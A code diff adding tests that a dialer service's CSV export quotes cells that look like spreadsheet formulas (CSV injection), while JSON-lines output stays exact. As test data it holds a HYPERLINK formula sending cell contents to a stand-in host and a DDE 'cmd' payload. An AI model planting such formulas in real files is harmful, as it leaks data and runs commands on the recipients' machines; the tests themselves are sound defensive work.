@@ -135,6 +135,45 @@ async def test_export_streams_csv_with_the_numbers_called(api: Api) -> None:
     assert rows[2]["promise_date"] == ""  # none: an empty cell
 
 
+async def test_export_csv_cells_never_run_as_spreadsheet_formulas(api: Api) -> None:
+    # An imported reference is anybody's text: a spreadsheet opening the export must show
+    # it, not run it (CSV injection). Numbers stay numbers; JSON lines stay exact.
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    await _outcome(api, await _case(api, formula), "2026-11-30T09:00:00+08:00", result="no_answer")
+    await _outcome(
+        api, await _case(api, "@SUM(1+1)"), "2026-11-30T10:00:00+08:00", result="no_answer"
+    )
+    csv_r, jsonl_r = [
+        await api.client.get(
+            "/v1/attempts/export", params={"format": f}, headers=api.auth(Role.SUPERVISOR)
+        )
+        for f in ("csv", "jsonl")
+    ]
+    rows = list(csv.DictReader(io.StringIO(csv_r.text)))
+    assert [row["external_ref"] for row in rows] == ["'" + formula, "'@SUM(1+1)"]
+    assert rows[0]["contact_value"] == "+8613800138000"  # a number: not a formula
+    lines = [json.loads(x) for x in jsonl_r.text.splitlines()]
+    assert [x["external_ref"] for x in lines] == [formula, "@SUM(1+1)"]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("-12.50", "-12.50"),
+        ("+8613800138000", "+8613800138000"),
+        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
+        ("+1 (555) 0100", "'+1 (555) 0100"),
+        ("\t=1", "'\t=1"),
+        ("plain", "plain"),
+        (None, ""),
+    ],
+)
+def test_a_csv_cell_that_looks_like_a_formula_is_quoted(value: str | None, cell: str) -> None:
+    from dialer.services.attempts import _csv_cell
+
+    assert _csv_cell(value) == cell
+
+
 async def test_export_json_lines_takes_the_list_filters(api: Api) -> None:
     await _book(api)
     r = await api.client.get(
